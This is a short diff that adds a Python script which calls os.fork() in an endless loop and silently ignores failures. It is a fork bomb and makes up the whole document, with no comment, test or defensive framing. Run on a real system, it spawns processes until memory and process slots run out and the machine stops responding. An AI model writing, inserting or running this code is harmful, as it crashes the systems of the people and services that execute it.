@@ -1,0 +1,6 @@
+import os, threading, time
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
